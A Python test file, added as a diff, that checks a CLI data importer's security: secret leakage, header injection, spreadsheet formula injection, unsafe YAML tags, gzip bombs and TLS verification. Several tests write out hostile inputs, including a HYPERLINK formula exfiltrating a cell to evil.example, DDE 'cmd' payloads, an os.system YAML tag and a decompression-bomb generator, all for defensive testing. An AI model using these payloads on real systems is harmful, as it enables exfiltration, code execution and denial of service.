@@ -1,0 +1,601 @@
+"""Security: the SECRET never leaks, report files are safe to open and private, configs are
+loaded safely, compressed input is bounded, TLS is verified.
+
+Every command runs as a user runs it (a subprocess of the installed ``dmimport``), against real
+servers on loopback: the sandbox, a closed port, a self-signed HTTPS server, and a small HTTP
+server that plays a platform answering with hostile text.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import dataclasses
+import fcntl
+import gzip
+import json
+import os
+import pty
+import shutil
+import ssl
+import stat
+import struct
+import subprocess
+import sys
+import termios
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from importer.errors import LoadError
+from importer.loader import InputOptions, iter_batches, open_source
+from importer.sandbox import Faults, Sandbox
+from importer.sandbox.schema import Schema
+
+DMIMPORT = Path(sys.executable).with_name("dmimport")
+CANARY = "SECRET-CANARY-7f3a9c"
+
+HEADER = ["手机号", "邮箱", "姓名", "年龄"]
+CONFIG = """
+job: {kind: user, primary_keys: [phone, email]}
+columns:
+  phone: 手机号
+  email: {from: 邮箱, transform: [strip, lower]}
+  username: 姓名
+  age: {from: 年龄, type: integer}
+send:
+  concurrency: 8
+  retry: {max_attempts: 3, initial_backoff_s: 0.001, max_backoff_s: 0.005}
+"""
+
+
+# -- helpers ------------------------------------------------------------------------------------
+
+
+def dmimport(*args: str | Path, cwd: Path, secret: str | None = CANARY,
+             tty: bool = False) -> tuple[int, str, str]:  # fmt: skip
+    """Run the CLI; with ``tty`` its stderr is a terminal, so the progress bar is drawn."""
+    env = {k: v for k, v in os.environ.items() if not k.startswith("DMART_")}
+    if secret is not None:
+        env["DMART_SECRET"] = secret
+    cmd = [str(DMIMPORT), *map(str, args)]
+    if not tty:
+        proc = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=cwd, timeout=120)
+        return proc.returncode, proc.stdout, proc.stderr
+    master, slave = pty.openpty()
+    # a 0x0 terminal would make the progress bar zero characters wide
+    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 120, 0, 0))
+    chunks: list[bytes] = []
+
+    def drain() -> None:
+        while True:
+            try:
+                data = os.read(master, 65536)
+            except OSError:  # EIO: the child closed the terminal
+                return
+            if not data:
+                return
+            chunks.append(data)
+
+    reader = threading.Thread(target=drain, daemon=True)
+    reader.start()
+    with subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=slave, text=True, env=env,
+                          cwd=cwd) as p:  # fmt: skip
+        os.close(slave)
+        out, _ = p.communicate(timeout=120)
+    reader.join(timeout=10)
+    os.close(master)
+    return p.returncode, out, b"".join(chunks).decode("utf-8", "replace")
+
+
+def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
+    with open(path, "w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh, lineterminator="\n")
+        w.writerow(header)
+        w.writerows(rows)
+    return path
+
+
+def rows(n: int, prefix: str = "0139") -> list[list[str]]:
+    return [
+        [f"{prefix}{i:07d}", f"U{i}@Example.cn", f"用户{i}", str(20 + i % 50)] for i in range(n)
+    ]
+
+
+def files_under(root: Path) -> Iterator[Path]:
+    for dirpath, _, names in os.walk(root):
+        for name in names:
+            yield Path(dirpath) / name
+
+
+def run_dirs(report_root: Path) -> list[Path]:
+    return sorted(p for p in report_root.iterdir() if p.is_dir())
+
+
+class Platform:
+    """A small HTTP/1.1 server on loopback, in its own thread, that plays the platform.
+
+    ``answer(body) -> (errcode, errmsg)``; every request's headers and body are kept in
+    ``requests``. With ``ssl_ctx`` it speaks HTTPS.
+    """
+
+    def __init__(self, answer: Callable[[bytes], tuple[int, str]],
+                 ssl_ctx: ssl.SSLContext | None = None) -> None:  # fmt: skip
+        self.answer = answer
+        self.requests: list[tuple[dict[str, str], bytes]] = []
+        self._loop = asyncio.new_event_loop()
+        ready = threading.Event()
+
+        async def start() -> None:
+            self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=ssl_ctx)
+            self.port = self._server.sockets[0].getsockname()[1]
+
+        def main() -> None:
+            self._loop.run_until_complete(start())
+            ready.set()
+            self._loop.run_forever()
+
+        self._thread = threading.Thread(target=main, daemon=True)
+        self._thread.start()
+        ready.wait(10)
+        self.url = f"{'https' if ssl_ctx else 'http'}://127.0.0.1:{self.port}"
+
+    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        try:
+            while True:
+                head = await reader.readuntil(b"\r\n\r\n")
+                lines = head.decode("latin-1").split("\r\n")
+                headers: dict[str, str] = {}
+                for line in lines[1:]:
+                    if line:
+                        name, _, value = line.partition(":")
+                        headers[name.strip().lower()] = value.strip()
+                body = await reader.readexactly(int(headers.get("content-length", "0")))
+                self.requests.append((headers, body))
+                code, msg = self.answer(body)
+                payload = json.dumps({"errcode": code, "errmsg": msg}).encode()
+                writer.write(
+                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+                    b"Content-Length: %d\r\n\r\n" % len(payload) + payload
+                )
+                await writer.drain()
+        except (
+            asyncio.IncompleteReadError,
+            ConnectionError,
+            ssl.SSLError,
+            asyncio.LimitOverrunError,
+        ):
+            pass
+        finally:
+            writer.close()
+
+    def stop(self) -> None:
+        async def close() -> None:
+            self._server.close()
+
+        asyncio.run_coroutine_threadsafe(close(), self._loop).result(10)
+        self._loop.call_soon_threadsafe(self._loop.stop)
+        self._thread.join(10)
+
+
+@pytest.fixture
+def platform() -> Iterator[Callable[..., Platform]]:
+    started: list[Platform] = []
+
+    def make(answer: Callable[[bytes], tuple[int, str]], ssl_ctx: ssl.SSLContext | None = None
+             ) -> Platform:  # fmt: skip
+        p = Platform(answer, ssl_ctx)
+        started.append(p)
+        return p
+
+    yield make
+    for p in started:
+        p.stop()
+
+
+# -- the SECRET never leaks ---------------------------------------------------------------------
+
+
+def test_secret_never_appears_in_any_output_stream_or_file(
+    fresh_sandbox: Callable[..., Sandbox], sandbox_schema: Schema, tmp_path: Path
+) -> None:
+    knows = dataclasses.replace(sandbox_schema, secrets=(CANARY,))
+    flaky = fresh_sandbox(schema=knows, faults=Faults(seed=3, http_503=0.2, http_500=0.2))
+    stranger = fresh_sandbox()  # does not know the canary: 20000
+    data = write_csv(tmp_path / "c.csv", HEADER, rows(400))
+    bad = rows(3, "0140")
+    bad[1][3] = "not-a-number"
+    small = write_csv(tmp_path / "small.csv", HEADER, bad)
+    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
+    closed = f"http://127.0.0.1:{_closed_port()}"
+
+    # 40% of attempts fail and 3 attempts are allowed: some rows end failed (exit 1)
+    runs: dict[str, tuple[list[str | Path], set[int]]] = {
+        "run-5xx": (["run", "job.yaml", data, "--base-url", flaky.url], {0, 1}),
+        "run-debug-5xx": (["run", "job.yaml", data, "--base-url", flaky.url, "--debug"], {0, 1}),
+        "run-json": (["run", "job.yaml", small, "--base-url", flaky.url, "--json"], {1}),
+        "run-20000": (["run", "job.yaml", data, "--base-url", stranger.url], {3}),
+        "run-closed-port": (["run", "job.yaml", small, "--base-url", closed], {1}),
+        "validate": (["validate", "job.yaml", small], {1}),
+    }
+    outputs: list[str] = []
+    for name, (args, expected) in runs.items():
+        # stderr is a terminal, so the progress bar is drawn too (stdout is still captured)
+        code, out, err = dmimport("--verbose", *args, "--report-dir", "rep", cwd=tmp_path, tty=True)
+        assert code in expected, (name, out, err)
+        outputs += [out, err]
+    code, out, err = dmimport("--verbose", "check-config", "job.yaml", cwd=tmp_path)
+    assert code == 0
+    outputs += [out, err]
+    # an error raised as an exception (the report folder cannot be created), with --verbose
+    (tmp_path / "taken").write_text("a file")
+    code, out, err = dmimport("--verbose", "run", "job.yaml", small, "--base-url", flaky.url,
+                              "--report-dir", "taken/rep", cwd=tmp_path)  # fmt: skip
+    assert code in (2, 5) and "taken/rep" in err
+    outputs += [out, err]
+
+    # the runs really went through the situations they are meant to
+    text = "\n".join(outputs)
+    assert "ABORTED: 20000 Authentication failed" in text
+    assert "ConnectionRefusedError" in text
+    assert "rows [00:" in text and "rejected=" in text  # the progress bar was drawn
+    assert flaky.stats()["by_fault"]["http_503"] > 0
+
+    assert CANARY not in text
+    assert CANARY[-6:] not in text
+    reports = list(files_under(tmp_path / "rep"))
+    assert len(reports) >= 10
+    for path in reports:
+        assert CANARY.encode() not in path.read_bytes(), path
+        assert CANARY[-6:].encode() not in path.read_bytes(), path
+
+
+def _closed_port() -> int:
+    import socket
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+def test_a_secret_with_a_line_break_is_refused_not_sent_as_extra_headers(
+    platform: Callable[..., Platform], tmp_path: Path
+) -> None:
+    # A SECRET read from a file with Windows line ends, or pasted with a newline, must not put
+    # a line break into the request head: that would let it inject headers.
+    server = platform(lambda body: (0, "请求成功"))
+    data = write_csv(tmp_path / "c.csv", HEADER, rows(3))
+    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
+    code, out, err = dmimport(
+        "run",
+        "job.yaml",
+        data,
+        "--base-url",
+        server.url,
+        "--report-dir",
+        "rep",
+        cwd=tmp_path,
+        secret=CANARY + "\r\nX-Injected: yes",
+    )
+    injected = [h for h, _ in server.requests if "x-injected" in h]
+    assert not injected, f"{len(injected)} requests carried a header injected by the SECRET"
+    assert code == 2, (out, err)
+    assert "target.secret_env" in err and "DMART_SECRET" in err
+    assert CANARY not in err + out
+    assert server.requests == []
+
+
+# -- report files: spreadsheet-safe, raw where it must be, private --------------------------------
+
+HOSTILE_COLUMN = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+HOSTILE_ERRMSGS = {
+    "13800000002": "-2+3+cmd|' /C calc'!A0",
+    "13800000003": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "13800000004": "\tTAB first",
+    "13800000005": "\rCR first",
+    "13800000006": "+1+1",
+}
+
+
+def _hostile(body: bytes) -> tuple[int, str]:
+    for phone, msg in HOSTILE_ERRMSGS.items():
+        if phone.encode() in body:
+            return 20003, msg
+    return 0, "请求成功"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_report_cells_are_neutralised_in_csv_and_raw_in_jsonl_and_rejects(
+    platform: Callable[..., Platform], tmp_path: Path, fmt: str
+) -> None:
+    server = platform(_hostile)
+    header = ["手机号", "邮箱", "姓名", HOSTILE_COLUMN]
+    data_rows = [
+        ["13800000001", "a@b.cn", "ok", "1"],
+        ["13800000002", "b@b.cn", "x", "2"],
+        ["13800000003", "c@b.cn", "x", "3"],
+        ["13800000004", "d@b.cn", "x", "4"],
+        ["13800000005", "e@b.cn", "x", "5"],
+        ["13800000006", "g@b.cn", "x", "6"],
+        ["+8613800138000", "f@b.cn", "=1+1", "abc"],  # rejected locally: age is not a number
+    ]
+    write_csv(tmp_path / "@export.csv", header, data_rows)
+    config = CONFIG.replace("from: 年龄", f"from: '{HOSTILE_COLUMN}'")
+    config += f"report: {{format: {fmt}}}\n"
+    (tmp_path / "job.yaml").write_text(config, encoding="utf-8")
+    code, out, err = dmimport(
+        "run",
+        "job.yaml",
+        "@export.csv",
+        "--base-url",
+        server.url,
+        "--report-dir",
+        "rep",
+        "--json",
+        cwd=tmp_path,
+    )
+    assert code == 1, err
+    summary = json.loads(out)
+    results_path = tmp_path / summary["results"]
+    if fmt == "csv":
+        with open(results_path, newline="", encoding="utf-8") as fh:
+            got = {r["line"]: r for r in csv.DictReader(fh)}
+        quote = "'"
+    else:
+        got = {str(r["line"]): r for r in map(json.loads, results_path.read_text().splitlines())}
+        quote = ""
+    assert {r["file"] for r in got.values()} == {quote + "@export.csv"}
+    for i, msg in enumerate(HOSTILE_ERRMSGS.values(), start=3):
+        assert (got[str(i)]["status"], got[str(i)]["errmsg"]) == ("failed", quote + msg)
+    assert got["8"]["column"] == quote + HOSTILE_COLUMN
+    assert got["8"]["identity"] == "phone=+8613800138000;email=f@b.cn"
+    assert got["2"]["status"] == "ok"
+
+    # The rejects file is for re-import: values exactly as in the input, byte for byte.
+    (rejects,) = summary["rejects"]
+    lines = (tmp_path / rejects).read_bytes().decode("utf-8").splitlines()
+    source = (tmp_path / "@export.csv").read_text(encoding="utf-8").splitlines()
+    assert lines == [source[0], *source[2:8]]
+    assert lines[-1] == "+8613800138000,f@b.cn,=1+1,abc"
+
+
+def test_mask_pii_masks_phones_and_emails_everywhere_in_the_results(
+    fresh_sandbox: Callable[..., Sandbox], tmp_path: Path
+) -> None:
+    sb = fresh_sandbox()
+    data = [
+        ["18312346527", "tiger@qdum.com", "张三", "30"],
+        ["18398765432", "li@qdum.com", "李四", "old"],  # 10002 on age
+        ["28312340000", "wu@qdum.com", "吴", "30"],  # fails the phone pattern
+    ]
+    write_csv(tmp_path / "c.csv", HEADER, data)
+    config = CONFIG.replace("phone: 手机号", r"phone: {from: 手机号, pattern: '1\d{10}'}")
+    (tmp_path / "job.yaml").write_text(config + "report: {mask_pii: true}\n", encoding="utf-8")
+    code, out, err = dmimport(
+        "run",
+        "job.yaml",
+        "c.csv",
+        "--base-url",
+        sb.url,
+        "--report-dir",
+        "rep",
+        "--json",
+        cwd=tmp_path,
+        secret=sb.secret,
+    )
+    assert code == 1, err
+    summary = json.loads(out)
+    with open(tmp_path / summary["results"], newline="", encoding="utf-8") as fh:
+        got = list(csv.DictReader(fh))
+    assert [r["identity"] for r in got] == [
+        "phone=183****6527;email=ti****@qdum.com",
+        "phone=183****5432;email=li****@qdum.com",
+        "phone=283****0000;email=wu****@qdum.com",
+    ]
+    text = (tmp_path / summary["results"]).read_text(encoding="utf-8")
+    text += (tmp_path / summary["report_dir"] / "summary.json").read_text(encoding="utf-8")
+    for phone, email, _, _ in data:
+        assert phone not in text, phone
+        assert email not in text, email
+
+
+def test_report_files_are_private(tmp_path: Path) -> None:
+    # rejects in every input format, so every writer is covered
+    write_csv(tmp_path / "c.csv", HEADER, [["13800000001", "a@b.cn", "x", "bad"]])
+    (tmp_path / "c.jsonl").write_text(
+        json.dumps({"手机号": "13800000001", "邮箱": "a@b.cn", "年龄": "bad"}) + "\n"
+    )
+    pq.write_table(
+        pa.table({"手机号": ["13800000001"], "邮箱": ["a@b.cn"], "姓名": ["x"], "年龄": ["bad"]}),
+        tmp_path / "c.parquet",
+    )
+    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
+    for name in ("c.csv", "c.jsonl", "c.parquet"):
+        code, _, err = dmimport("validate", "job.yaml", name, "--report-dir", "rep", cwd=tmp_path)
+        assert code == 1, err
+    dirs = run_dirs(tmp_path / "rep")
+    assert len(dirs) == 3
+    seen = set()
+    for d in dirs:
+        assert stat.S_IMODE(d.stat().st_mode) == 0o700, d
+        for f in d.iterdir():
+            seen.add(f.name)
+            assert stat.S_IMODE(f.stat().st_mode) == 0o600, f"{f.name} is {oct(f.stat().st_mode)}"
+    assert {
+        "results.csv",
+        "summary.json",
+        "rejects.csv",
+        "rejects.jsonl",
+        "rejects.parquet",
+    } <= seen
+
+
+# -- config loading is safe ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "tag",
+    ["!!python/object/apply:os.system", "!!python/object/new:os.system"],
+    ids=["apply", "new"],
+)
+def test_yaml_python_tags_are_refused_not_executed(tmp_path: Path, tag: str) -> None:
+    marker = tmp_path / "pwned"
+    (tmp_path / "evil.yaml").write_text(
+        "job: {kind: user, primary_keys: [phone]}\n"
+        "columns:\n"
+        "  phone: 手机号\n"
+        f'  x: {tag} ["touch {marker}"]\n',
+        encoding="utf-8",
+    )
+    for command in (["check-config", "evil.yaml"], ["validate", "evil.yaml", "c.csv"]):
+        write_csv(tmp_path / "c.csv", ["手机号"], [["1"]])
+        code, _, err = dmimport(*command, cwd=tmp_path)
+        assert code == 2
+        assert not marker.exists()
+        assert err.splitlines() == [
+            "error: invalid config evil.yaml:",
+            "  config (line 4): YAML syntax error: could not determine a constructor for the tag "
+            f"'tag:yaml.org,2002:{tag[2:]}' -- check indentation, colons and quotes around this "
+            "line",
+        ]
+
+
+# -- compressed input is bounded ----------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def gzip_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """200 MB of decompressed CSV (a header, then rows of zeros) in about 200 KB."""
+    path = tmp_path_factory.mktemp("bomb") / "bomb.csv.gz"
+    with gzip.open(path, "wb", compresslevel=6) as fh:
+        fh.write("手机号,邮箱,姓名,年龄\n".encode())
+        block = b"0,0,0,0\n" * (1 << 17)  # 1 MiB
+        for _ in range(200):
+            fh.write(block)
+    assert path.stat().st_size < 1 << 20
+    return path
+
+
+def test_gzip_bomb_is_stopped_at_the_decompressed_size_limit(gzip_bomb: Path) -> None:
+    limit = 16 << 20
+    t0 = time.perf_counter()
+    with pytest.raises(LoadError) as info:
+        open_source(gzip_bomb, InputOptions(max_decompressed_bytes=limit))
+    assert str(info.value) == (
+        f"{gzip_bomb}: decompresses to more than {limit} bytes (input.max_decompressed_bytes); "
+        "refusing to read further"
+    )
+    assert time.perf_counter() - t0 < 5
+    # under the limit the same file opens, and reading it is bounded by the same limit
+    source = open_source(gzip_bomb, InputOptions(max_decompressed_bytes=300 << 20))
+    rows_read = 0
+    with pytest.raises(LoadError, match="decompresses to more than 8388608 bytes"):
+        for batch in iter_batches(source, InputOptions(max_decompressed_bytes=8 << 20)):
+            rows_read += batch.table.num_rows
+    assert rows_read < (8 << 20) // 8
+
+
+def test_gzip_bomb_through_the_cli_stops_at_the_configured_limit(
+    gzip_bomb: Path, tmp_path: Path
+) -> None:
+    shutil.copy(gzip_bomb, tmp_path / "bomb.csv.gz")
+    limit = 16 << 20
+    (tmp_path / "job.yaml").write_text(
+        CONFIG + f"input: {{max_decompressed_bytes: {limit}}}\n", encoding="utf-8"
+    )
+    t0 = time.perf_counter()
+    code, _, err = dmimport("validate", "job.yaml", "bomb.csv.gz", "--report-dir", "rep",
+                            cwd=tmp_path)  # fmt: skip
+    assert time.perf_counter() - t0 < 15
+    assert code == 2
+    assert err == (
+        f"error: bomb.csv.gz: decompresses to more than {limit} bytes "
+        "(input.max_decompressed_bytes); refusing to read further\n"
+    )
+
+
+def test_nul_gzip_bomb_through_the_cli_is_refused_without_a_traceback(tmp_path: Path) -> None:
+    bomb = tmp_path / "zeros.csv.gz"
+    with gzip.open(bomb, "wb", compresslevel=6) as fh:
+        block = b"\x00" * (1 << 20)
+        for _ in range(200):
+            fh.write(block)
+    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
+    t0 = time.perf_counter()
+    code, _, err = dmimport(
+        "validate", "job.yaml", "zeros.csv.gz", "--report-dir", "rep", cwd=tmp_path
+    )
+    assert time.perf_counter() - t0 < 15
+    assert code == 2
+    assert err.startswith("error: zeros.csv.gz: this is binary data, not a text file")
+    assert "Traceback" not in err
+
+
+# -- TLS is verified by default -----------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def self_signed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+    if shutil.which("openssl") is None:  # pragma: no cover - Debian images ship it
+        pytest.fail("openssl is needed to make a test certificate")
+    d = tmp_path_factory.mktemp("tls")
+    cert, key = d / "cert.pem", d / "key.pem"
+    subprocess.run(
+        [
+            "openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
+            "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
+            "-keyout", str(key), "-out", str(cert),
+        ],
+        check=True,
+        capture_output=True,
+    )  # fmt: skip
+    return cert, key
+
+
+def test_self_signed_https_aborts_the_run_with_a_certificate_message(
+    platform: Callable[..., Platform], self_signed: tuple[Path, Path], tmp_path: Path
+) -> None:
+    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    ctx.load_cert_chain(*self_signed)
+    server = platform(lambda body: (0, "请求成功"), ctx)
+    data = write_csv(tmp_path / "c.csv", HEADER, rows(500))
+    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
+    code, out, err = dmimport(
+        "run",
+        "job.yaml",
+        data,
+        "--base-url",
+        server.url,
+        "--report-dir",
+        "rep",
+        "--json",
+        cwd=tmp_path,
+    )
+    assert code == 3, err
+    summary = json.loads(out)
+    assert summary["aborted"].startswith("TLS certificate verification failed: ")
+    assert "certificate" in summary["aborted"]
+    assert summary["requests"] <= 8  # one per worker at most, never retried
+    assert server.requests == []  # nothing was sent over the unverified connection
+    assert summary["counts"]["not_sent"] + summary["counts"]["failed"] == 500
+    # and with the CA given explicitly the same server is trusted
+    cert = self_signed[0]
+    (tmp_path / "ca.yaml").write_text(CONFIG + f"target: {{ca_file: '{cert}'}}\n")
+    code, out, err = dmimport(
+        "run",
+        "ca.yaml",
+        data,
+        "--base-url",
+        server.url,
+        "--report-dir",
+        "rep",
+        "--json",
+        cwd=tmp_path,
+    )
+    assert code == 0, err
+    assert len(server.requests) == 500
